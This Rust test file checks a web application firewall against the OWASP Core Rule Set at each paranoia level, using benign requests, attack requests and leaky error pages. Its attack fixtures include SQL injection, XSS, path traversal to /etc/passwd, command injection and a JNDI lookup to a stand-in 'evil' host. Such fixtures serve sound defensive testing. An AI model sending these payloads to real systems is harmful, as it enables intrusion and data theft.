//! The OWASP Core Rule Set, where it is found, as an estate that blocks has it: refused or through,
//! at each paranoia level.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use seclang::regression::{Case, parse, run_case};
use seclang::{Connection, Moment, RequestHead, ResponseHead, Ruleset, Transaction};

use super::estate;
use crate::{Sets, is_rule_file};

/// The rule set's folder; a test without it says so.
pub(crate) fn folder() -> Option<PathBuf> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    #[expect(clippy::disallowed_methods, reason = "a test asks where the rules are")]
    let set = std::env::var("RAMPART_CRS_DIR").ok();
    let folder = root.join(set.unwrap_or_else(|| "../shared/data/crs".to_owned()));
    if folder.join("rules").is_dir() {
        return Some(folder);
    }
    println!("skipped: RAMPART_CRS_DIR names no Core Rule Set");
    None
}

pub(crate) fn texts(folder: &Path) -> BTreeMap<String, String> {
    let mut texts = BTreeMap::new();
    for place in ["", "rules"] {
        for entry in std::fs::read_dir(folder.join(place)).unwrap() {
            let path = entry.unwrap().path();
            let name = path.file_name().unwrap().to_str().unwrap().to_owned();
            if path.is_file() && is_rule_file(&name) {
                let key = Path::new("crs").join(place).join(name);
                let text = std::fs::read_to_string(&path).unwrap();
                texts.insert(key.to_str().unwrap().to_owned(), text);
            }
        }
    }
    texts
}

fn rules(texts: &BTreeMap<String, String>, level: u8) -> std::sync::Arc<Ruleset> {
    let estate = estate(&format!("paranoia = {level}\n"));
    let sets = Sets::load(&estate, texts, &crate::Shelf::keeping(0))
        .unwrap_or_else(|errors| panic!("{errors:#?}"));
    sets.of(&estate.routes[0]).unwrap()
}

/// What a rule counts for: its paranoia level, and whether one match of it refuses a request.
fn weights(texts: &BTreeMap<String, String>) -> BTreeMap<u64, (u8, bool)> {
    let mut weights = BTreeMap::new();
    for text in texts.values() {
        for rule in text.split("\nSecRule ").skip(1) {
            let after = |word: &str| rule.split_once(word).map(|(_, rest)| rest);
            let digits =
                |rest: &str| -> String { rest.chars().take_while(char::is_ascii_digit).collect() };
            let id = after("\"id:").map(digits).and_then(|id| id.parse().ok());
            let level = after("paranoia-level/").map(digits);
            let level = level.and_then(|level| level.parse().ok());
            let is_critical = rule.contains("severity:'CRITICAL'")
                && rule.contains("inbound_anomaly_score_pl")
                && rule.contains("=+%{tx.critical_anomaly_score}");
            if let (Some(id), Some(level)) = (id, level) {
                weights.insert(id, (level, is_critical));
            }
        }
    }
    weights
}

fn cases(folder: &Path) -> Vec<Case> {
    let mut folders = vec![folder.join("tests/regression")];
    let mut files = Vec::new();
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            match path.extension().and_then(|ext| ext.to_str()) {
                None if path.is_dir() => folders.push(path),
                Some("yaml" | "yml") => files.push(path),
                _ => {}
            }
        }
    }
    files.sort();
    let read = |file: &PathBuf| {
        let text = std::fs::read_to_string(file).unwrap();
        parse(&file.to_string_lossy(), &text).unwrap()
    };
    files.iter().flat_map(read).collect()
}

/// Every so many of the set's tests are run at each level; all of them take minutes unoptimised.
const EVERY: usize = 12;

#[test]
fn crs_refuses_at_each_level_what_one_of_its_critical_rules_is_to_find() {
    let Some(folder) = folder() else {
        return;
    };
    let texts = texts(&folder);
    let weights = weights(&texts);
    let cases = cases(&folder);
    let mut before = BTreeSet::new();
    for level in 1..=4 {
        let rules = rules(&texts, level);
        let mut refused = BTreeSet::new();
        let mut due = 0;
        for case in cases.iter().step_by(EVERY) {
            let outcome = run_case(&rules, case);
            let stage = &case.stages[0];
            let status = outcome.stages[0].status;
            let is_due = stage.expected.expect_ids.iter().any(|id| {
                let weight = weights.get(id);
                weight.is_some_and(|(of, critical)| *critical && *of <= level)
            });
            due += u32::from(is_due);
            let is_refused = matches!(status, 400 | 403);
            assert!(
                is_refused || !is_due,
                "{} is let through at level {level} with {status}: {:?}",
                case.name,
                outcome.stages[0].ids
            );
            if is_refused {
                refused.insert(case.name.clone());
            }
        }
        println!(
            "level {level}: {} of {} refused, {due} had to be",
            refused.len(),
            cases.len().div_ceil(EVERY)
        );
        assert!(due > 100, "{due}");
        assert!(
            before.is_subset(&refused),
            "what one level refuses the next one does: {:?}",
            before.difference(&refused).collect::<Vec<_>>()
        );
        before = refused;
    }
}

/// Method, target, type and body of honest requests, and the level from which they are refused:
/// 920273 of level 4 takes no space in an argument.
const HONEST: &[(&str, &str, &str, &str, u8)] = &[
    ("GET", "/", "", "", 9),
    ("GET", "/search?q=blue+suede+shoes&page=2", "", "", 4),
    ("GET", "/orders/4711?expand=lines", "", "", 9),
    ("GET", "/static/app.3f9a.js", "", "", 9),
    ("GET", "/products?sort=price&order=asc", "", "", 9),
    (
        "POST",
        "/contact",
        "application/x-www-form-urlencoded",
        "name=Ada&message=Could+you+call+me+tomorrow",
        4,
    ),
    (
        "POST",
        "/api/orders",
        "application/json",
        r#"{"product":"Lamp","quantity":2,"gift":false}"#,
        9,
    ),
];

/// What is never let through, wherever it stands.
const ATTACKS: &[(&str, &str, &str, &str)] = &[
    ("GET", "/?id=1%27%20OR%20%271%27%3D%271", "", ""),
    (
        "GET",
        "/?id=1%20UNION%20SELECT%20password%20FROM%20users--",
        "",
        "",
    ),
    ("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "", ""),
    ("GET", "/?file=../../../../etc/passwd", "", ""),
    ("GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D", "", ""),
    (
        "POST",
        "/",
        "application/json",
        r#"{"user":{"name":"1' UNION SELECT password FROM users-- -"}}"#,
    ),
    (
        "POST",
        "/",
        "application/x-www-form-urlencoded",
        "a=1&b=%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E",
    ),
    ("POST", "/", "text/plain", "cmd=;cat+/etc/passwd"),
    ("POST", "/", "", "cmd=;cat+/etc/passwd"),
    (
        "POST",
        "/",
        "text/xml",
        "<a><b c=\"1' UNION SELECT password FROM users-- -\"/></a>",
    ),
];

fn begin<'r>(
    rules: &'r Ruleset,
    (method, target, kind, body): (&str, &str, &str, &str),
) -> Transaction<'r> {
    let address = "203.0.113.7".parse().unwrap();
    let connection = Connection {
        client: address,
        client_port: 1,
        server: address,
        server_port: 443,
        moment: Moment::default(),
        unique_id: b"test",
    };
    let mut transaction = Transaction::new(rules, &connection);
    let length = body.len().to_string();
    let mut fields: Vec<(&[u8], &[u8])> = vec![
        (b"host", b"shop.example"),
        (
            b"user-agent",
            b"Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0",
        ),
        (b"accept", b"text/html,application/json;q=0.9,*/*;q=0.8"),
    ];
    if method == "POST" {
        fields.push((b"content-length", length.as_bytes()));
    }
    if !kind.is_empty() {
        fields.push((b"content-type", kind.as_bytes()));
    }
    transaction.request_head(&RequestHead {
        line: format!("{method} {target} HTTP/1.1").as_bytes(),
        method: method.as_bytes(),
        target: target.as_bytes(),
        protocol: b"HTTP/1.1",
        fields: &fields,
    });
    transaction.request_body(body.as_bytes());
    transaction
}

fn told(transaction: &Transaction<'_>) -> Vec<u64> {
    let all = transaction.matches().iter().filter(|one| one.logged);
    all.map(|one| one.id).collect()
}

#[test]
fn crs_lets_honest_requests_through_and_no_attack() {
    let Some(folder) = folder() else {
        return;
    };
    let texts = texts(&folder);
    for level in 1..=4 {
        let rules = rules(&texts, level);
        for (method, target, kind, body, from) in HONEST {
            let transaction = begin(&rules, (method, target, kind, body));
            assert_eq!(
                transaction.interruption().is_some(),
                level >= *from,
                "{method} {target} {body} at level {level}: {:?}",
                told(&transaction)
            );
        }
        for attack in ATTACKS {
            let transaction = begin(&rules, *attack);
            let spent = transaction.spent_bytes();
            assert!(spent > 0 && spent < 16 << 20, "{attack:?} costs {spent}");
            assert!(
                transaction.interruption().is_some(),
                "{attack:?} at level {level}: {:?}",
                told(&transaction)
            );
        }
    }
}

#[test]
fn crs_withholds_an_answer_that_leaks() {
    let Some(folder) = folder() else {
        return;
    };
    let rules = rules(&texts(&folder), 1);
    for (body, refused) in [
        (
            "<b>Warning</b>: mysql_fetch_array() expects parameter 1 to be resource",
            true,
        ),
        (
            "You have an error in your SQL syntax; check the manual that corresponds to your MySQL \
          server version for the right syntax to use near ''1''' at line 1",
            true,
        ),
        (
            "<!doctype html><title>Shop</title><p>Lamps from 20 to 40",
            false,
        ),
    ] {
        let mut transaction = begin(&rules, ("GET", "/", "", ""));
        transaction.response_head(&ResponseHead {
            status: 200,
            protocol: b"HTTP/1.1",
            fields: &[(b"content-type", b"text/html; charset=utf-8")],
        });
        assert!(transaction.wants_response_body());
        transaction.response_body(body.as_bytes());
        assert_eq!(
            transaction.interruption().is_some(),
            refused,
            "{body}: {:?}",
            told(&transaction)
        );
    }
}

#[test]
fn a_long_honest_body_stays_within_the_budget_that_an_estate_has_by_itself() {
    let Some(folder) = folder() else {
        return;
    };
    let texts = texts(&folder);
    let words = "the lamp arrived in time and works as it should ".repeat(1400);
    let body = format!("comment={}", words.replace(' ', "+"));
    for level in [1, 4] {
        let rules = rules(&texts, level);
        let kind = "application/x-www-form-urlencoded";
        let transaction = begin(&rules, ("POST", "/", kind, &body));
        let spent = transaction.spent_bytes();
        println!("level {level}: {} bytes of a form cost {spent}", body.len());
        assert!(spent < 128 << 20, "{spent}");
    }
}
